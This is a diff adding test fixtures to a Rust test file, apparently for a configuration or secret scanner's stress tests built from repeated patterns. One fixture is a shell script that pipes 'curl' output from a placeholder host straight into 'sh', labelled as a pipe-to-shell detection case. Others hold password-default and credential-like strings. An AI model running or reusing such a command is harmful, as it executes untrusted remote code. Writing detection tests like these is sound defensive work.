@@ -132,6 +132,25 @@ fn documents() -> Vec<(&'static str, &'static str, Vec<u8>)> {
             config(&format!("runcmd: [\"{}\"]\n", "token=".repeat(size / 8))),
         ),
         (
+            "defaults of variables",
+            "pipe-to-shell",
+            format!("#!/bin/sh\ncurl https://a.example.com | sh\n{}\n", "${PASSWORD:-".repeat(size / 12))
+                .into_bytes(),
+        ),
+        (
+            "passwords of SQL",
+            "unknown-key",
+            config(&format!("x: \"identified with {}\"\n", "by' ".repeat(size / 4))),
+        ),
+        ("at signs", "unknown-key", config(&format!("x: \"{}\"\n", "a@".repeat(size / 2)))),
+        ("users and hosts", "unknown-key", config(&format!("x: \"{}\"\n", "a:b@c:1/".repeat(size / 8)))),
+        ("users of databases", "unknown-key", config(&format!("x: \"{}\"\n", "a@tcp(".repeat(size / 6)))),
+        (
+            "random words",
+            "unknown-key",
+            config(&format!("x: \"{}\"\n", "x3Kd9aQ7mZ2pLr8TnV5cYw1B ".repeat(size / 25))),
+        ),
+        (
             "references",
             "unknown-key",
             config(&format!(
